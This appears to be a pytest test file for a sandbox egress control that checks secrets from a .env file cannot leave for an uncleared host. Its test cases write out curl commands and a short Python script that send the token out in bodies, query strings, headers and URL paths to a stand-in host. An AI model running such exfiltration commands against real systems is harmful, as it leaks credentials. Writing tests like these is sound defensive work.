"""What is sensitive does not leave: what the command read, or may have read, counts against where it goes."""

import os
from collections.abc import Iterator

import pytest
from tests.fakes.internet import World, clients, fake_internet, why_not
from tests.fakes.internet.standing import Standing, standing_with

SECRET = "tok-91f2c7d0a4b8"
INTERNAL = {"hosts": [{"host": "api.test", "methods": ["*"], "clearance": "internal"}]}


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    if reason := why_not() or clients.missing("curl"):
        pytest.skip(reason)
    with fake_internet() as made:
        yield made


@pytest.fixture(params=["root", pytest.param("user", marks=pytest.mark.slow)])
def standing(request: pytest.FixtureRequest, world: World) -> Iterator[Standing]:
    yield from standing_with(
        world, request.param, {".env": f"API_TOKEN={SECRET}\n", "notes.txt": "nothing special\n"}
    )


def statuses(standing: Standing, *curls: str) -> list[str]:
    script = "\n".join(f"curl -s -o /dev/null -w '%{{http_code}} ' {one}" for one in curls)
    done = standing.sh(script, INTERNAL)
    return done.stdout.decode().split()


def test_what_holds_nothing_sensitive_leaves(standing: Standing) -> None:
    assert statuses(
        standing,
        "https://api.test/x",
        "-d @notes.txt https://api.test/y",
    ) == ["200", "200"]


@pytest.mark.parametrize(
    "how",
    [
        "-d @.env https://api.test/x",
        f"'https://api.test/x?k={SECRET}'",
        f"-H 'X-Note: {SECRET}' https://api.test/x",
        f"https://api.test/{SECRET}/x",
        f"--data-urlencode 'k={SECRET}' https://api.test/x",
    ],
)
def test_a_sensitive_value_does_not_leave_for_a_host_that_is_not_cleared(
    how: str, standing: Standing
) -> None:
    mark = standing.world.mark()
    # Read first: as root what nobody read is not known, as a user everything counts as read.
    assert statuses(standing, '-d "$(cat .env >/dev/null; echo hi)" https://api.test/first', how) == [
        "200",
        "403",
    ]
    assert [request.path for request in standing.world.requests(mark)] == ["/first"]


def test_a_file_that_is_still_open_counts_as_read(standing: Standing) -> None:
    mark = standing.world.mark()
    program = standing.put(
        "agent.py",
        "import subprocess\n"
        "kept = open('.env'); token = kept.read().strip().split('=')[1]\n"
        "subprocess.run(['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '-d', token, 'https://api.test/x'])\n",
    )
    done = standing.sh(f"python3 {os.path.basename(program)}", INTERNAL)
    assert done.stdout == b"403"
    assert standing.world.requests(mark) == []
